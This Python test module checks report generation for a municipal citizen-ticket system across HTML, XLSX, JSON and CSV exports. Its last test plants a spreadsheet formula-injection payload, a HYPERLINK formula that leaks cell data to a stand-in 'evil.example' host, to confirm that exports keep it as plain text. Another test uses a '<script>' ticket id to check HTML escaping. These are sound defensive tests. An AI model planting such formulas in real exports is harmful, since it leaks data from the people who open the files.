"""The periodic report from tickets driven through the lifecycle, and its renderings."""

from __future__ import annotations

import csv
import io
import json
from dataclasses import replace
from datetime import date, timedelta

import pytest
from openpyxl import load_workbook

from domain.jurisdiction import Jurisdiction
from domain.reporting import PeriodKind, Report, build_report, period_for
from domain.ticket.lifecycle.rules import LifecycleRules
from domain.time_limits import WorkingCalendar
from schemas.commands import CompleteTicket, RecordCallback, SignOrder
from tests.unit.lifecycle_desk import MONDAY, Desk, calendar_for, hours, rules_with_limits
from web.reports.files import render_csv, render_json, render_xlsx
from web.reports.html import render_html


@pytest.fixture(scope="module")
def calendar(jurisdiction: Jurisdiction) -> WorkingCalendar:
    return calendar_for(jurisdiction)


@pytest.fixture(scope="module")
def rules(jurisdiction: Jurisdiction, calendar: WorkingCalendar) -> LifecycleRules:
    return rules_with_limits(jurisdiction, calendar)


@pytest.fixture(scope="module")
def report(jurisdiction: Jurisdiction, calendar: WorkingCalendar, rules: LifecycleRules) -> Report:
    logs = []
    for n in range(4):  # three completed and called back satisfied, one left unsigned
        desk = Desk(rules, f"R{n}")
        if n < 3:
            desk.unit(SignOrder, MONDAY + hours(1)).unit(CompleteTicket, MONDAY + hours(3), reply="已处理")
            desk.control(RecordCallback, MONDAY + hours(5), outcome="satisfied")
        logs.append(desk.events)
    logs.append(Desk(rules, "R-sewer<script>", "drainage.sewer", "zjj").events)
    period = period_for(PeriodKind.DAILY, date(2026, 3, 2), "Asia/Shanghai")
    now = MONDAY + timedelta(days=20)  # the day is over: the report is as of its end
    return build_report(logs, period, now, jurisdiction, calendar)


def test_the_daily_report_counts_the_days_tickets_as_of_the_end_of_the_day(report: Report) -> None:
    assert report.as_of == report.period.end_at
    assert (report.received, report.received_previous) == (5, 0)
    assert report.dispositions == {"派单": 5, "即办": 0, "转办": 0, "待人工派单": 0}
    totals = report.totals
    assert (totals.dispatched, totals.signed_in_time, totals.completed, totals.completed_on_time) == (
        5,
        3,
        3,
        3,
    )
    assert (totals.reached, totals.satisfied, totals.overdue) == (3, 3, 0)
    assert [(r.key, r.rates.dispatched) for r in report.units] == [("cgj", 4), ("zjj", 1)]
    assert report.units[0].score == pytest.approx(100 * (0.2 * 0.75 + 0.2 * 0.75 + 0.3 + 0.3))
    assert report.units[1].score is None  # fewer than 3 tickets: listed, not ranked
    assert [(c.key, c.current) for c in report.categories_received] == [
        ("sanitation.garbage", 4),
        ("drainage.sewer", 1),
    ]
    assert report.trend["全部"][-1] == 5 and sum(report.trend["全部"]) == 5


def test_the_outstanding_list_holds_open_tickets_past_their_limit_when_reported_later(
    jurisdiction: Jurisdiction, calendar: WorkingCalendar, rules: LifecycleRules
) -> None:
    desk = Desk(rules, "R-late").unit(SignOrder, MONDAY + hours(1))
    monthly = period_for(PeriodKind.MONTHLY, date(2026, 3, 2), "Asia/Shanghai")
    found = build_report([desk.events], monthly, MONDAY + timedelta(days=12), jurisdiction, calendar)
    assert [(o.ticket_id, o.flags) for o in found.outstanding] == [("R-late", ("超期",))]
    assert found.totals.overdue == 1


def test_the_html_report_reads_in_chinese_with_inline_charts_and_escapes_what_citizens_wrote(
    report: Report,
) -> None:
    html = render_html(report, MONDAY + timedelta(days=20))
    for heading in (
        "承办单位排名",
        "红榜",
        "黑榜",
        "热点问题",
        "趋势",
        "突出问题清单",
        "指标口径",
        "按期办结率",
    ):
        assert heading in html
    assert html.count("<svg") == 4 and "http://" not in html.replace("http://www.w3.org/2000/svg", "")
    assert "<script>" not in html and "R-sewer&lt;script&gt;" not in html  # open, not flagged: not listed


def test_the_xlsx_report_has_a_sheet_per_table_and_a_chart_and_the_json_exact_counts(report: Report) -> None:
    book = load_workbook(io.BytesIO(render_xlsx(report, MONDAY)))
    assert book.sheetnames == [
        "总体",
        "单位排名",
        "属地",
        "类别",
        "热点类别",
        "热点属地",
        "热点地点",
        "即办与知识库",
        "突出问题",
        "指标口径",
    ]
    ranking = book["单位排名"]
    assert [ranking.cell(row=r, column=1).value for r in (3, 4)] == [
        "市城市管理和综合执法局",
        "市住房和城乡建设局",
    ]
    assert len(ranking._charts) == 1  # type: ignore[attr-defined]  # openpyxl keeps its charts private
    data = json.loads(render_json(report))
    assert (data["received"], data["totals"]["dispatched"], data["totals"]["completed"]) == (5, 5, 3)
    assert data["best"] == ["cgj"] and data["worst"] == []
    assert render_csv(report).startswith("\ufeff表,范围,派单量")


def test_exports_keep_what_citizens_wrote_as_text_never_a_formula(
    jurisdiction: Jurisdiction, calendar: WorkingCalendar, rules: LifecycleRules
) -> None:
    desk = Desk(rules, "R-formula").unit(SignOrder, MONDAY + hours(1))
    monthly = period_for(PeriodKind.MONTHLY, date(2026, 3, 2), "Asia/Shanghai")
    found = build_report([desk.events], monthly, MONDAY + timedelta(days=12), jurisdiction, calendar)
    formula = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'
    found = replace(found, outstanding=[replace(found.outstanding[0], text=formula)])

    rows = [
        row for row in csv.reader(io.StringIO(render_csv(found).lstrip("\ufeff"))) if row[0] == "突出问题"
    ]
    assert [row[-1] for row in rows] == ["'" + formula]

    sheet = load_workbook(io.BytesIO(render_xlsx(found, MONDAY)))["突出问题"]
    cell = sheet.cell(row=3, column=8)
    assert (cell.value, cell.data_type) == (formula, "s")
